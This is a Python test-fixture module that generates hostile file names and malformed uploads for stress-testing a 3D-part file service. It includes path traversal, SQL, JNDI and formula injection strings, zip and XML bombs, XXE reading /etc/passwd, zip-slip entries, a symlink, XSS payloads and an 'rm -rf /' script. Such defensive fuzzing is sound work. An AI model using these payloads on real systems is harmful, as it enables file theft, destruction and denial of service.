"""Names and contents that somebody sends who means harm. Standard library only, nothing of it large."""

import gzip
import io
import random
import struct
import warnings
import zipfile
from collections.abc import Iterator

from scripts.chaos_suites.parts import ASCII_BOX, demo_parts
from scripts.chaos_suites.traffic import box_stl
from scripts.chaos_suites.written_parts import written_parts

BOMB_BYTES = 40_000_000
NESTED_BYTES = 20_000_000
OVERLAPPING = 2000
KERNEL_BYTES = 1_000_000
HEAD_BYTES = 80
MODEL = "3D/3dmodel.model"
SYMLINK = 0o120777 << 16
DEEP_XML = 20_000
LAUGHS = 9


def names(mark: str) -> Iterator[str]:
    """File names; each has the mark in it, so that what escapes can be found."""
    yield from (f"../{mark}.stl", f"../../../../../../../../tmp/{mark}.stl", f"/tmp/{mark}.stl")  # noqa: S108
    yield from (f"..\\..\\{mark}.stl", f"C:\\{mark}.stl", f"\\\\host\\share\\{mark}.stl")
    yield from (f"%2e%2e%2f{mark}.stl", f"..%252f{mark}.stl", f"....//{mark}.stl", f"~/{mark}.stl")
    yield from (f"{mark}\0.stl", f"{mark}.stl\0.png", f"{mark}\r\nX-Evil: 1.stl", f"{mark}\x1b[31m.stl")
    yield from (f"{mark}\u202elts.exe", f"\u2066{mark}\u2069.stl", f"{mark}\u200b.stl", f"{mark}\u2028.stl")
    yield from (f"{mark}{'a' * 300}.stl", f"{mark}{'ж' * 300}.stl", f"{mark}{'🦊' * 200}.stl")
    yield from ("CON", "NUL.stl", "com1.stl", "aux.step", ".htaccess", ".", "..", "   ", "...", "-rf")
    yield from (
        f'{mark}".stl',
        f"{mark}';drop table files;--.stl",
        f"<img src=x>{mark}.stl",
        f"{mark}|id.stl",
    )
    yield from (f"${{jndi:ldap://x/{mark}}}.stl", f"{{{{7*7}}}}{mark}.stl", f"=cmd|' /C calc'!{mark}.stl")
    yield from (f"{mark}.stl/", f"{mark}.php", f"{mark}.html", f"{mark}.svg", f"{mark}#1", f"{mark}#2.stl")


def contents(dice: random.Random) -> Iterator[tuple[str, bytes]]:
    """What is no part, hardly one, or one and something else as well."""
    yield from _of_another_kind()
    yield from _cut_and_mixed(dice)
    yield from _archives()
    yield from _of_xml()


def _of_another_kind() -> Iterator[tuple[str, bytes]]:
    yield "empty", b""
    yield "one byte", b"s"
    yield "zeros", bytes(1000)
    yield "PNG", b"\x89PNG\r\n\x1a\n" + bytes(200)
    yield (
        "PDF with a script",
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    )
    yield "ELF", b"\x7fELF\x02\x01\x01" + bytes(300)
    yield "EXE", b"MZ" + bytes(300)
    yield "HTML", b"<!doctype html><script>alert(1)</script>"
    yield "SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "script", b"#!/bin/sh\nrm -rf /\n"
    yield "gzip", gzip.compress(demo_parts()["bracket.step"], mtime=0)
    yield "gzip bomb", gzip.compress(bytes(BOMB_BYTES), mtime=0)
    yield "tar", b"../evil".ljust(257, b"\0") + b"ustar\x0000" + bytes(248)
    yield "UTF-16", "solid x\nfacet normal 0 0 1".encode("utf-16")


def _cut_and_mixed(dice: random.Random) -> Iterator[tuple[str, bytes]]:
    step, box = demo_parts()["bracket.step"], box_stl(10, 20, 30)
    yield "STEP cut", step[: dice.randrange(40, len(step) - 40)]
    yield "STEP header alone", b"ISO-10303-21;"
    yield "STEP with a page in it", step.replace(b"HEADER;", b"HEADER;/*<script>alert(1)</script>*/", 1)
    yield "STEP and ZIP", step + _zip({"evil.sh": b"#!/bin/sh"})
    yield "STEP that names a file", step.replace(b"ENDSEC;", b"DOCUMENT_FILE('/etc/passwd','','');ENDSEC;", 1)
    yield "STL cut", box[: dice.randrange(HEAD_BYTES + 5, len(box) - 1)]
    yield "STL of four thousand million", box[:HEAD_BYTES] + struct.pack("<I", 2**32 - 1) + box[84:]
    yield "STL of none", box[:HEAD_BYTES] + struct.pack("<I", 0)
    yield "STL of no numbers", box[:84] + struct.pack("<12fH", *[float("nan")] * 12, 0) * 12
    yield "STL without end", box[:84] + struct.pack("<12fH", *[3e38] * 12, 0) * 12
    yield "STL with a page in it", (b"<html><script>alert(1)</script>".ljust(HEAD_BYTES) + box[HEAD_BYTES:])
    yield "STL and PDF", box + b"%PDF-1.7\n%%EOF"
    yield "GIF and STL", b"GIF89a".ljust(HEAD_BYTES) + box[HEAD_BYTES:]
    yield "ASCII STL of huge words", ASCII_BOX.replace("10", "1" * 5000).encode()
    yield "ASCII STL of one line", b"solid " + b"x" * 500_000
    yield "OBJ that wants a file", b"mtllib ../../../etc/passwd\n" + written_parts()["block.obj"]
    yield "OBJ of far corners", b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 999999999 -999999999 3\n"


def _archives() -> Iterator[tuple[str, bytes]]:
    model = zipfile.ZipFile(io.BytesIO(written_parts()["boxes.3mf"])).read(MODEL)
    others = _entries_of(written_parts()["boxes.3mf"])
    yield "ZIP", _zip({"evil.sh": b"#!/bin/sh"})
    yield "ZIP of nothing", b"PK\x05\x06" + bytes(18)
    yield "ZIP of a part", _zip({"bracket.step": demo_parts()["bracket.step"]})
    yield "3MF that is a bomb", _zip({**others, MODEL: model + b" " * BOMB_BYTES})
    yield "3MF of bombs", _zip({**others, "3D/other.model": bytes(BOMB_BYTES)})
    nested = _zip({"inner.zip": _zip({"inner.zip": _zip({"zeros": bytes(NESTED_BYTES)})})})
    yield "3MF with ZIPs in a ZIP", _zip({**others, "3D/nested.zip": nested})
    yield "3MF of overlapping files", overlapping(others)
    yield "3MF that climbs", _zip({**others, "../../../../../../tmp/climbed": b"x", "/tmp/absolute": b"x"})  # noqa: S108
    yield "3MF with a link", _zip({**others, "3D/link": b"/etc/passwd"}, links={"3D/link"})
    yield "3MF with names twice", _zip_twice(others, MODEL, model)
    yield "3MF without an end", written_parts()["boxes.3mf"][:-10]
    yield (
        "3MF that names a file",
        _zip({**others, MODEL: model.replace(b"<model", b'<model path="/etc/passwd"', 1)}),
    )


def _of_xml() -> Iterator[tuple[str, bytes]]:
    others = _entries_of(written_parts()["boxes.3mf"])
    entity = b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><model>&x;</model>'
    yield "3MF with an entity", _zip({**others, MODEL: entity})
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, LAUGHS))
    bomb = b'<!DOCTYPE m [<!ENTITY l0 "ha">' + laughs + b"]><model>&l%d;</model>" % (LAUGHS - 1)
    yield "3MF with a billion laughs", _zip({**others, MODEL: bomb})
    yield (
        "3MF of deep XML",
        _zip({**others, MODEL: b"<model>" + b"<a>" * DEEP_XML + b"</a>" * DEEP_XML + b"</model>"}),
    )


def overlapping(entries: dict[str, bytes]) -> bytes:
    """A package whose directory names one compressed kernel under thousands of names."""
    package = bytearray(_zip({**entries, "3D/kernel": bytes(KERNEL_BYTES)}))
    start = package.rfind(b"PK\x01\x02")
    end = package.rfind(b"PK\x05\x06")
    (count,) = struct.unpack_from("<H", package, end + 10)
    (place,) = struct.unpack_from("<I", package, end + 16)
    record = bytes(package[start:end])
    copies = b"".join(record.replace(b"3D/kernel", b"3D/k%05d" % n) for n in range(OVERLAPPING))
    directory = bytes(package[place:end]) + copies
    tail = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, *[count + OVERLAPPING] * 2, len(directory), place, 0
    )
    return bytes(package[:place]) + directory + tail


def _entries_of(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def _zip(entries: dict[str, bytes], links: frozenset[str] | set[str] = frozenset()) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = SYMLINK if name in links else 0o644 << 16
            package.writestr(info, content)
    return file.getvalue()


def _zip_twice(entries: dict[str, bytes], name: str, content: bytes) -> bytes:
    file = io.BytesIO(_zip(entries))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(file, "a") as package:
            package.writestr(name, content)
    return file.getvalue()
